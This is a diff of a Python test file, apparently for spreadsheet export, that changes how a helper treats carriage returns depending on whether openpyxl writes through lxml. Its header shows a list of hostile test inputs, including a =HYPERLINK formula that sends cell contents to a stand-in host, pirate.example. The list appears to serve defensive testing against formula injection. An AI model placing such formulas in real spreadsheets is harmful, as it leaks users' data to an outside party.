@@ -609,8 +609,11 @@ HOSTILES = ['=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")', "+33 6 12 34 5
 
 
 def _relu(texte: str) -> str:
-    """Le texte tel qu'un classeur le rend : le XML d'un .xlsx ramène tout retour chariot à un saut de ligne."""
-    return texte.replace("\r", "\n")
+    """Le texte tel qu'un classeur le rend : écrit par lxml (dépendance), un retour chariot est gardé (&#13;) ;
+    sans lui, le XML d'un .xlsx le ramène à un saut de ligne."""
+    from openpyxl import LXML
+
+    return texte if LXML else texte.replace("\r", "\n")
 
 
 def _ligne_liste(numero: str, intitule: str, porteur: str = "Centre social Matisse"):
